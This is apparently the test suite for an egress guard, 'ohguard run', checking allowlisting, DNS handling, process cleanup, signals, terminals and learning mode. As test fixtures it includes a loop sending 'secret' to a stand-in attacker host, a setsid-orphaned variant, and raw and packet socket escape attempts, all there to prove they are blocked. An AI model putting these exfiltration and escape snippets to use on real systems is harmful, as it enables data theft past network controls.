# SPDX-License-Identifier: MIT
"""ohguard run: one command under a guard of its own. Its terminal, its end, and that nothing gets out or stays."""
import contextlib
import fcntl
import fnmatch
import json
import os
import pty
import random
import re
import select
import shlex
import signal
import subprocess
import sys
import termios
import time
from pathlib import Path

import pytest

from guard import ALLOWED, BINARY, FAILED, FORBIDDEN, USAGE, assert_says, poll
from lab import topology

NOBODY = 65534
# Sends to what is forbidden, for ever; says so once.
SENDER = """
import os, socket, sys, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
print(os.getpid(), flush=True)
while True:
    try:
        s.sendto(b"secret", (sys.argv[1], 31337))
    except OSError:
        pass
    time.sleep(0.001)
"""
# The same from a process that outlives its parent, and is out of its session.
ORPHAN = """
import os, sys
if os.fork():
    os.wait() if len(sys.argv) > 2 else input()
    os._exit(3)
os.setsid()
""" + SENDER


def run(lab, *argv, allow=(), options=(), **kw):
    allow = [word for a in allow for word in ("--allow", a)]
    return lab.server.run([BINARY, "run", *allow, *options, "--", *argv], **{"timeout": 60, **kw})


def python(code, *args):
    return [sys.executable, "-IS", "-c", code, *map(str, args)]


def cgroups(pid=None):
    """The cgroups of runs: of one, or of all that a process id of this test can be in."""
    mount = next(line.split()[1] for line in Path("/proc/mounts").read_text().splitlines()
                 if line.split()[2] == "cgroup2")
    # not rglob(), which fails where a folder goes meanwhile
    return [Path(at, name) for at, names, _ in os.walk(mount) for name in fnmatch.filter(names, f"ohguard-run-{pid}")]


def exists(pid):
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0] not in "ZX"
    except (FileNotFoundError, ProcessLookupError):
        return False


def children(pid):
    return [int(p) for p in Path(f"/proc/{pid}/task/{pid}/children").read_text().split()]


@contextlib.contextmanager
def running(lab, argv, *options, **kw):
    """A run whose command has said something: the process, and what it said."""
    p = lab.server.popen([BINARY, "run", *options, "--", *argv], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                         text=True, **kw)
    try:
        yield p, p.stdout.readline().strip()
    finally:
        p.kill()
        for cgroup in cgroups(p.pid):       # what is left there holds the pipes
            with contextlib.suppress(OSError):
                (cgroup / "cgroup.kill").write_text("1")
        p.communicate()


def assert_gone(lab, pid, *others):
    poll(lambda: not cgroups(pid), "no cgroup of the run")
    assert not [p for p in others if exists(p)]


@contextlib.contextmanager
def nothing_to_the_attacker(lab):
    mark = lab.wire.mark()
    yield
    assert not lab.wire.traffic(mark, dst=topology.ATTACKER[0])


# -- what passes

def test_command_ends_on_a_closed_pipe_as_anywhere(lab):
    r = run(lab, "sh", "-c", "grep SigIgn /proc/self/status")
    assert not int(r.stdout.split()[1], 16) >> (signal.SIGPIPE - 1) & 1, r.stdout


def test_only_what_is_allowed_passes(lab):
    curl = "curl -sS -o /dev/null --max-time 20"
    with nothing_to_the_attacker(lab):
        r = run(lab, "sh", "-c", f"{curl} https://{ALLOWED} || exit 1; "
                f"{curl} https://google.com; test $? = 6 || exit 2; "
                f"{curl} --resolve google.com:443:198.51.100.20 https://google.com; test $? = 7 || exit 3; "
                f"{curl} http://{FORBIDDEN[0]}:{FORBIDDEN[1]}; test $? = 7", allow=[ALLOWED])
    assert r.returncode == 0, r.stderr
    assert "dns-name-not-allowed  google.com by curl: --allow google.com\n" in r.stderr
    assert "address-not-allowed  198.51.100.20:443/tcp by curl: --allow 198.51.100.20" in r.stderr


def test_what_learns_from_answers_is_loaded_only_where_a_name_is_allowed(lab):
    for allow, learns in (((), False), (("--allow", "192.0.2.1"), False), (("--allow", ALLOWED), True)):
        with running(lab, ["sh", "-c", "echo; exec sleep 60"], *allow) as (p, _):
            (cgroup,) = cgroups(p.pid)
            shown = json.loads(lab.server.run(["bpftool", "-j", "cgroup", "show", cgroup], check=True).stdout)
        hooks = {program["attach_type"] for program in shown}
        assert "cgroup_inet_egress" in hooks and ("cgroup_inet_ingress" in hooks) == learns


def test_what_it_says_to_give_lets_the_command_through(lab):
    """Refusals of one target's addresses are one line, and its option is ready to paste."""
    command = ["curl", "-sS", "-o", "/dev/null", "--max-time", "20", "http://example.com"]
    r = run(lab, *command, allow=["example.com"])
    (line,) = re.findall(r"^ +\d+  port-not-allowed  .*", r.stderr, re.M)
    option = shlex.split(line.split(": ")[-1])
    assert r.returncode and option == ["--allow", "example.com:80 sni=off"], r.stderr
    r = run(lab, *command, allow=["example.com", option[1]])
    assert (r.returncode, r.stderr) == (0, "")


def test_refused_names_are_answered_as_no_such_name(lab):
    """EAI_NONAME: an error in sending would be EAI_AGAIN."""
    r = run(lab, *python("import socket\ntry: socket.getaddrinfo('google.com', 443)\n"
                         "except socket.gaierror as e: print(e.errno == socket.EAI_NONAME)"))
    assert r.stdout == "True\n", r.stderr


def test_every_way_out_is_shut(lab):
    """TCP, UDP, ICMP, raw and packet sockets, over IPv4 and IPv6, from a child of a child."""
    code = """
import socket, struct, sys
def attempt(*a, to, frame=b"secret"):
    try:
        s = socket.socket(*a)
        s.settimeout(2)
        if a[1] == socket.SOCK_STREAM: s.connect(to)
        else: s.sendto(frame, to)
        print("ok", a)
    except OSError as e:
        pass
four, six = sys.argv[1:3]
for port in (53, 80, 123, 443, 31337):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        attempt(socket.AF_INET, kind, to=(four, port))
        attempt(socket.AF_INET6, kind, to=(six, port))
        attempt(socket.AF_INET6, kind, to=("::ffff:" + four, port))
attempt(socket.AF_INET, socket.SOCK_RAW, 1, to=(four, 0), frame=b"\\x08\\0\\xf7\\xff\\0\\0\\0\\0")
attempt(socket.AF_INET, socket.SOCK_DGRAM, 1, to=(four, 0), frame=b"\\x08\\0\\xf7\\xff\\0\\0\\0\\0")
attempt(socket.AF_PACKET, socket.SOCK_DGRAM, 0, to=("eth0", 0x800, 0, 0, b"\\xff" * 6), frame=b"E" + bytes(60))
"""
    with nothing_to_the_attacker(lab):
        r = run(lab, "sh", "-c", 'sh -c \'"$@"; true\' sh "$@"', "sh", *python(code, *topology.ATTACKER))
    # connect() on a datagram socket is not tried; what a sendto() was told does not matter, what left does
    assert r.returncode == 0 and "ok" not in r.stdout, r.stdout


def test_names_are_kept_fresh_while_it_runs(lab):
    """An address that the name gets later, and that the command itself never asks for."""
    name, first, later = "fresh.lab.example", "192.0.2.77", "192.0.2.78"
    lab.dns.add(name, first, ttl=1)
    lab.server.run(["sh", "-c", "cat > /run/fresh.conf"], check=True,
                   input=f"[dns]\nmin-ttl = 1\nmax-ttl = 1\n[allow]\ntarget = {name}\n")
    script = (f"try() {{ curl -s -o /dev/null --max-time 5 --resolve {name}:443:$1 https://{name}; }}; "
              f"try {first} && ! try {later} && echo started; n=0; "
              f"until try {later}; do n=$((n + 1)); test $n -lt 300 || exit 1; sleep 0.1; done")
    with running(lab, ["sh", "-c", script], "-c", "/run/fresh.conf") as (p, said):
        assert said == "started"
        lab.dns.add(name, later, ttl=1)
        assert p.wait(120) == 0


# -- its end

@pytest.mark.parametrize("script, status", (("exit 7", 7), ("kill -TERM $$", 143), ("kill -9 $$", 137), ("true", 0)))
def test_exit_status_is_the_commands(lab, script, status):
    assert run(lab, "sh", "-c", script).returncode == status


def test_a_command_that_cannot_run(lab):
    assert_says(run(lab, "/no/such"), 127, "/no/such", "No such file")
    assert_says(run(lab, "/etc/passwd"), 126, "/etc/passwd", "denied")
    assert_says(lab.server.run([BINARY, "run", "true"]), USAGE, "--")
    assert_says(run(lab, "true", allow=["not/a"]), FAILED, "not/a")
    assert_says(run(lab, "true", options=["--user", "no-such-user"]), FAILED, "no-such-user")


def test_input_and_output_pass_through(lab):
    r = run(lab, "sh", "-c", "cat; echo err >&2", input="in\n")
    assert (r.stdout, r.stderr, r.returncode) == ("in\n", "err\n", 0)


def test_a_fork_that_outlives_the_command_ends_with_it(lab):
    with nothing_to_the_attacker(lab), running(lab, python(ORPHAN, topology.ATTACKER[0]),
                                                stdin=subprocess.PIPE) as (p, pid):
        assert exists(pid)
        p.stdin.write("\n")
        p.stdin.flush()
        assert p.wait(30) == 3
        assert_gone(lab, p.pid, int(pid))


def test_nothing_is_left(lab):
    before = lab.server.run(["ls", "-A", "/run", "/sys/fs/bpf", "/var/lib"]).stdout
    p = lab.server.popen([BINARY, "run", "--", "true"], stderr=subprocess.DEVNULL)
    assert p.wait(60) == 0
    assert_gone(lab, p.pid)
    assert lab.server.run(["ls", "-A", "/run", "/sys/fs/bpf", "/var/lib"]).stdout == before


# -- killed

def test_killed_at_any_moment_nothing_gets_out_and_nothing_stays(lab):
    spread = random.Random(16)
    with nothing_to_the_attacker(lab):
        for _ in range(8):
            p = lab.server.popen([BINARY, "run", "--", *python(ORPHAN, topology.ATTACKER[0], "wait")],
                                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            time.sleep(spread.uniform(0, 2))
            p.kill()
            p.wait()
            assert_gone(lab, p.pid)


def test_killed_while_the_command_runs(lab):
    with nothing_to_the_attacker(lab), running(lab, python(ORPHAN, topology.ATTACKER[0], "wait")) as (p, pid):
        assert exists(pid)
        p.kill()
        poll(lambda: not exists(pid), "the end of the command's child")
        assert_gone(lab, p.pid, int(pid))


def test_the_keeper_killed_takes_the_command_along(lab):
    with nothing_to_the_attacker(lab), running(lab, python(ORPHAN, topology.ATTACKER[0], "wait")) as (p, pid):
        os.kill(children(p.pid)[0], signal.SIGKILL)
        assert p.wait(30) == FAILED
        assert not exists(pid)


def test_both_killed_what_is_left_of_the_command_stays_guarded(lab):
    """Its links live in the mounts that it runs in."""
    with nothing_to_the_attacker(lab), running(lab, python(ORPHAN, topology.ATTACKER[0], "wait")) as (p, pid):
        keeper, command = children(p.pid)
        cgroup, = cgroups(p.pid)
        os.kill(p.pid, signal.SIGSTOP)      # or it would see its keeper's end first
        os.kill(keeper, signal.SIGKILL)
        os.kill(p.pid, signal.SIGKILL)
        p.wait()
        poll(lambda: not exists(command), "the end of the command itself")
        time.sleep(1)
        assert exists(pid)
        assert run(lab, "true").returncode == 0 and cgroup.is_dir()
        (cgroup / "cgroup.kill").write_text("1")
        poll(lambda: not (cgroup / "cgroup.procs").read_text(), "an empty cgroup")
        assert run(lab, "true").returncode == 0 and not cgroup.exists()     # by the next one


FAULTS = [("unshare", 1), ("mount", 1), ("mount", 2), ("mkdir", 1), ("socketpair", 1), ("clone", 1), ("clone", 2),
          ("prctl", 1), ("prctl", 2), ("setresuid", 1), ("signalfd4", 1), ("write", 1), ("write", 2), ("poll", 1),
          ("setsid", 1), *(("bpf", n) for n in random.Random(16).sample(range(1, 90), 8))]


@pytest.mark.parametrize("call, when", FAULTS, ids=lambda v: str(v))
def test_whatever_fails_nothing_gets_out_and_nothing_stays(lab, call, when):
    """The call fails in each of its processes."""
    send = SENDER.replace("while True", "for _ in range(3)")
    with nothing_to_the_attacker(lab):
        r = lab.server.run(["strace", "-fqqo", "/run/calls", "-e", f"inject={call}:error=EPERM:when={when}", BINARY,
                            "run", "--user", "nobody", "--", *python(send, topology.ATTACKER[0])], timeout=120)
        assert_gone(lab, lab.server.run(["cut", "-d ", "-f1", "/run/calls"]).stdout.split()[0])
    assert r.returncode or r.stdout, "it says that all is well, and the command did not run"


# -- signals and the terminal

# A Python handler would be lost, where the signal comes between its last look and the call that then sleeps.
WAITS = ("import os, signal\nsignal.pthread_sigmask(signal.SIG_BLOCK, [signal.{0}])\nprint('rea' + 'dy', flush=True)\n"
         "signal.sigwait([signal.{0}])\n")


def test_signals_are_passed_on(lab):
    code = WAITS.format("SIGUSR1") + "print('usr1', flush=True)\n" + WAITS.format("SIGTERM") + "raise SystemExit(9)"
    with running(lab, python(code)) as (p, said):
        assert said == "ready"
        os.kill(p.pid, signal.SIGUSR1)
        assert [p.stdout.readline() for _ in "12"] == ["usr1\n", "ready\n"]
        os.kill(p.pid, signal.SIGTERM)
        assert p.wait(30) == 9


def test_the_command_has_the_terminal(terminal):
    t = terminal(BINARY, "run", "--", "sh", "-c", "test -t 0 && stty size >/dev/null && read x && echo got-$x")
    time.sleep(0.1)
    t.type("line\n")
    t.wait_for("got-line")
    assert t.process.wait(30) == 0


def test_the_interrupt_key_is_the_commands(terminal):
    t = terminal(BINARY, "run", "--", *python(WAITS.format("SIGINT") + "raise SystemExit(5)"))
    t.wait_for("ready")
    t.type("\x03")
    assert t.process.wait(30) == 5


def test_a_shell_stops_and_continues_it(terminal):
    """Ctrl-Z, fg, and a program that keeps the signal to itself and stops later, as editors do."""
    t = terminal("bash", "--norc", "-i")
    t.type("PS1='$''> '\n")
    t.wait_for("$> ")
    for code in ("print('rea' + 'dy', flush=True)\nprint('got-' + input(), flush=True)",
                 WAITS.format("SIGTSTP") + "os.kill(0, signal.SIGSTOP)\nprint('got-' + input(), flush=True)"):
        t.type(f"{BINARY} run -- {sys.executable} -IS -c \"{code}\"\n")
        t.wait_for("ready")
        t.type("\x1a")
        t.wait_for("Stopped")
        t.wait_for("$> ")
        t.type("echo back-$((1 + 1))\n")
        t.wait_for("back-2")
        t.type("fg\n")
        t.wait_for("ohguard run")
        t.type("line\n")
        t.wait_for("got-line")
        t.wait_for("$> ")
    t.type("exit\n")


def test_a_shell_with_jobs_inside(terminal):
    t = terminal(BINARY, "run", "--", "bash", "--norc", "-i")
    t.type("PS1='$''> '\n")
    t.wait_for("$> ")
    t.type("sleep 1000\n")
    time.sleep(0.5)
    t.type("\x1a")
    t.wait_for("Stopped")
    t.type("kill %1; exit 4\n")
    t.type("exit 4\n")
    assert t.process.wait(30) == 4


# -- the user

def test_another_user(lab):
    r = run(lab, "sh", "-c", "id -u; id -G; echo $HOME; grep NoNewPrivs /proc/self/status; "
            "echo $$ > $(grep -o '/[^ ]* cgroup2' /proc/mounts | head -1 | cut -d' ' -f1)/cgroup.procs || echo held",
            options=["--user", "nobody"])
    uid, groups, home, privileges, held = r.stdout.splitlines()
    assert (uid, groups, privileges.split()[1], held) == (str(NOBODY), str(NOBODY), "1", "held"), r.stderr


def test_a_user_by_number(lab):
    assert run(lab, "id", "-u", options=["--user", "4321"]).stdout == "4321\n"


def test_as_nobody_it_asks_for_root(lab):
    r = lab.server.run(["setpriv", "--reuid", str(NOBODY), "--clear-groups", BINARY, "run", "--", "true"])
    assert_says(r, FAILED, "run it as root")


# -- where it runs

def test_two_at_once_have_lists_of_their_own(lab):
    script = ("read x; curl -sS -o /dev/null --max-time 20 https://$1 && echo ok-$1; "
              "curl -s -o /dev/null https://$2; echo $?")
    names = (ALLOWED, "github.com")
    runs = [lab.server.popen([BINARY, "run", "--allow", a, "--", "sh", "-c", script, "sh", a, b], text=True,
                             stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
            for a, b in (names, names[::-1])]
    out = [p.communicate("go\n", 60)[0].split() for p in runs]
    assert out == [[f"ok-{ALLOWED}", "6"], ["ok-github.com", "6"]]


def test_beside_a_guard_what_that_one_refuses_stays_refused(guard):
    guard.load()
    r = run(guard.lab, "sh", "-c", f"curl -sS -o /dev/null https://{ALLOWED}; echo $?; "
            "curl -sS -o /dev/null --max-time 20 --resolve github.com:443:198.51.100.30 https://github.com; echo $?",
            allow=[ALLOWED, "github.com"], guarded=True)
    assert r.stdout.split() == ["0", "7"], r.stderr
    assert "another guard is loaded here" in r.stderr
    assert "address-not-allowed" in {e["reason"] for e in guard.events()}
    guard.assert_stands()


def test_beside_a_guard_that_is_loaded_elsewhere(guard):
    guard.load()
    r = run(guard.lab, "curl", "-sS", "-o", "/dev/null", "https://github.com", allow=["github.com"])
    assert (r.returncode, r.stderr) == (0, "")
    guard.assert_stands()


def test_a_resolver_on_this_machine_is_not_asked(lab):
    """As with systemd-resolved, which passes on every name: the one behind it is asked, and judged."""
    script = ("mkdir -p /run/systemd/resolve; echo nameserver 10.0.0.2 > /run/systemd/resolve/resolv.conf; "
              "echo nameserver 127.0.0.53 > /tmp/stub; mount --bind /tmp/stub /etc/resolv.conf; "
              'exec "$@"')
    r = lab.server.run(["unshare", "-m", "sh", "-ec", script, "sh", BINARY, "run", "--allow", ALLOWED, "--", "sh", "-c",
                        f"cat /etc/resolv.conf; curl -sS -o /dev/null https://{ALLOWED} && echo ok; "
                        "curl -s https://google.com; echo $?"], timeout=60)
    assert "nameserver 10.0.0.2\nok\n6\n" in r.stdout and "127.0.0.53" not in r.stdout, r.stderr


@pytest.mark.parametrize("ground", (
    ["unshare", "-m", "sh", "-ec", 'while umount /sys/fs/bpf 2>/dev/null; do :; done; exec "$@"', "sh"],
    ["unshare", "-mpfC", "--mount-proc", "--kill-child"],
    ["unshare", "-m", "sh", "-ec", 'mount -o remount,ro,bind /sys/fs/bpf 2>/dev/null || :; exec "$@"', "sh"],
), ids=("no-bpffs", "container", "read-only"))
def test_on_other_ground(lab, ground):
    with nothing_to_the_attacker(lab):
        r = lab.server.run([*ground, BINARY, "run", "--allow", ALLOWED, "--", "sh", "-c",
                            f"curl -sS -o /dev/null https://{ALLOWED} && echo ok; "
                            f"curl -s https://{FORBIDDEN[0]}:{FORBIDDEN[1]}; echo $?"], timeout=60)
    assert r.stdout == "ok\n7\n", r.stderr


# -- learning

def test_what_is_learned_is_what_the_command_needs(lab):
    script = ("curl -sS -o /dev/null https://github.com && curl -sS -o /dev/null http://example.com && "
              "curl -sS -o /dev/null --resolve google.com:443:198.51.100.20 https://google.com && "
              "getent ahosts files.cdn.example >/dev/null && echo done")
    r = run(lab, "sh", "-c", script, options=["--learn", "/run/learned.conf"])
    assert (r.stdout, r.stderr) == ("done\n", "")
    learned = lab.server.run(["cat", "/run/learned.conf"]).stdout.splitlines()
    assert [line for line in learned if "=" in line] == [
        "target = example.com:80 sni=off", "target = github.com", "target = google.com", "name = files.cdn.example"]
    r = run(lab, "sh", "-c", script, options=["-c", "/run/learned.conf"])
    assert (r.stdout, r.stderr) == ("done\n", "")
    assert run(lab, "curl", "-s", f"https://{ALLOWED}", options=["-c", "/run/learned.conf"]).returncode == 6


def test_a_command_under_learn_ends_with_its_own_status(lab):
    assert run(lab, "sh", "-c", "exit 3", options=["--learn", "/run/learned.conf"]).returncode == 3
    assert_says(run(lab, "true", options=["--learn", "/no/folder/learned.conf"]), FAILED, "/no/folder")
